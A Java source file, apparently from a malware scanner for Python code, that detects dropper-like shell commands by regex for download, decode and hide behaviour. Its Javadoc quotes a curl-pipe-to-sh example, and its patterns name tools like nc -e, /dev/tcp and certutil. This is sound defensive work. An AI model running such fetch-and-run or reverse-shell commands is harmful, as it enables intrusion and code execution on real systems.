package dev.gatehouse.analyzer.python;

import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The text of a command handed to a process call, read from its literal pieces ({@code os.system("curl
 * -s http://x | sh")}, {@code Popen(["powershell", "-enc", b])}), and what it says it does. A library
 * asks git or a compiler for a version; a dropper downloads, decodes and runs. Only literal text counts:
 * a command built at run time says nothing here (its other evidence does).
 *
 * @param downloads the words that reach the network ({@code curl}, {@code Invoke-WebRequest}, a URL), or null
 * @param decodes the words that decode a payload to run ({@code base64 -d}, {@code -EncodedCommand}), or null
 * @param hides the words that hide the process or detach it from the one that started it ({@code nohup},
 *     {@code -WindowStyle Hidden}, {@code start /b}), or null
 */
record ShellCommand(String downloads, String decodes, String hides) {
  /** Commands are short; longer literals are data, and scanning them costs time. */
  private static final int MAX_CHARS = 8192;
  private static final Pattern DOWNLOADS = Pattern.compile(
      "(?<![\\w.-])(curl|wget|invoke-webrequest|iwr|invoke-restmethod|irm|downloadstring|downloadfile|start-bitstransfer"
          + "|bitsadmin|certutil\\s+-urlcache|mshta\\s+https?:|nc\\s+-e|ncat|/dev/tcp/|https?://[^\\s'\"]+)(?![\\w-])");
  private static final Pattern DECODES = Pattern.compile(
      "(base64\\s+(-d|--decode)|-encodedcommand|-enc\\s|frombase64string|openssl\\s+enc\\s+-d)");

  private static final Pattern HIDES = Pattern.compile(
      "(nohup\\s|setsid\\s|disown|start\\s+/b\\s|-w(?:indowstyle)?\\s+hidden|>\\s*/dev/null\\s+2>&1\\s*&\\s*$|pythonw(?:\\.exe)?\\s)");

  /** What the command literal in {@code [from, to)} does, or empty when it neither downloads, decodes nor hides. */
  static Optional<ShellCommand> of(List<PythonToken> t, int from, int to, Scope scope) {
    StringBuilder text = new StringBuilder();
    for (int i = from; i < to && text.length() < MAX_CHARS; i++) {
      PythonToken k = t.get(i);
      if (k.isString()) {
        text.append(k.value()).append(' ');
      } else if (k.isName() && !Expressions.afterDot(t, i) && scope.constant(k.text()) != null) {
        text.append(scope.constant(k.text()).text()).append(' ');
      }
    }
    return of(text.toString());
  }

  /** What a command's text does, or empty when it neither downloads, decodes nor hides. */
  static Optional<ShellCommand> of(String text) {
    String command = text.substring(0, Math.min(text.length(), MAX_CHARS)).toLowerCase(Locale.ROOT);
    Matcher download = DOWNLOADS.matcher(command);
    Matcher decode = DECODES.matcher(command);
    String downloads = download.find() ? shorten(download.group(1)) : null;
    String decodes = decode.find() ? decode.group(1).strip() : null;
    Matcher hide = HIDES.matcher(command.strip());
    String hides = hide.find() ? hide.group(1).strip() : null;
    return downloads == null && decodes == null && hides == null ? Optional.empty()
        : Optional.of(new ShellCommand(downloads, decodes, hides));
  }

  private static String shorten(String word) {
    return word.length() > 60 ? word.substring(0, 59) + "…" : word;
  }
}
